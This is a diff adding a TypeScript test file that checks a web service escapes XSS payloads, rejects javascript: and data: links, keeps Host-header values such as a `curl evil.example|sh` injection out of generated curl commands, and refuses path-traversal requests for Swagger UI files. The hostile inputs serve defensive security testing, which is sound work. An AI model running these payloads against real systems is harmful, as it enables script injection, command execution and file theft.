@@ -1,0 +1,84 @@
+import { createGarden, indexed } from '../contract/garden.js';
+import { type Service, startService } from '../contract/service.js';
+import { rawExchange } from '../http/serve.js';
+import { insert } from '../resources/fixture.js';
+
+const SCRIPT = '<script>alert(1)</script>';
+const BREAKING = `"'><img src=x onerror=alert(1)>`;
+
+let service: Service;
+beforeAll(async () => {
+  service = await startService({
+    fill: (database) =>
+      database.session(async (client) => {
+        await createGarden(client);
+        for (const [at, url] of ['javascript:alert(1)', 'data:text/html,x', ' JavaScript:alert(1)'].entries())
+          await insert(client, 'source', {
+            slug: `hostile-${at}`,
+            name: `${SCRIPT}${at}`,
+            citation: BREAKING,
+            licence: `${BREAKING}${SCRIPT}`,
+            licence_url: url,
+            url,
+            rank: 900 + at,
+          });
+      }),
+    engine: indexed,
+  });
+});
+afterAll(() => service.close());
+
+const page = async (path: string, host = 'garden.example'): Promise<string> =>
+  rawExchange(service.port, `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
+
+describe('what sources say of themselves on the page for people', () => {
+  it('is text, never markup', async () => {
+    const text = await page('/');
+    expect(text).toContain('&lt;script&gt;alert(1)&lt;/script&gt;0');
+    expect(text).toContain('&quot;&#39;&gt;&lt;img src=x');
+    expect(text).not.toContain(SCRIPT);
+    expect(text).not.toContain('<img');
+  });
+
+  it('leads to addresses of the web only', async () => {
+    const targets = [...(await page('/')).matchAll(/href="([^"]*)"/g)].map(([, target]) => target);
+    expect(targets.length).toBeGreaterThan(5);
+    expect(targets.filter((target) => !/^(https?:\/\/|\/|data:,$)/.test(target ?? ''))).toEqual([]);
+  });
+});
+
+describe('the host that a caller names', () => {
+  it.each(['garden.example', 'garden.example:8443', '192.0.2.7:80', '[2001:db8::1]:3000'])(
+    '%s stands in the commands',
+    async (host) => {
+      expect(await page('/', host)).toContain(`http://${host}/api/v1/species`);
+    },
+  );
+
+  it.each([`x';curl evil.example|sh;'`, BREAKING, 'a b', 'evil.example/$(id)', 'user@evil.example', ''])(
+    '%s brings nothing into them that a terminal would run',
+    async (host) => {
+      const text = await page('/', host);
+      const commands = [...text.matchAll(/data-curl="([^"]*)"/g)].map(([, command]) => command ?? '');
+      expect(commands.length).toBeGreaterThan(3);
+      expect(
+        commands.filter((command) => !/^(?:http:\/\/[\w.:-]+)?\/api\/v1\/[^'`$\s]*$/.test(command)),
+      ).toEqual([]);
+      expect(text).not.toContain('<img');
+    },
+  );
+});
+
+describe('files of the documentation', () => {
+  it.each([
+    '..%2f..%2fpackage.json',
+    '%2e%2e/%2e%2e/package.json',
+    'package.json',
+    '..',
+    '',
+    'swagger-ui.css%00.js',
+  ])('%s is no file of Swagger UI', async (name) => {
+    const folder = /"(docs\/swagger-ui-[^"/]+)\//.exec(await page('/docs'))?.[1];
+    expect(await page(`/${folder}/${name}`)).toMatch(/^HTTP\/1\.1 404 /);
+  });
+});
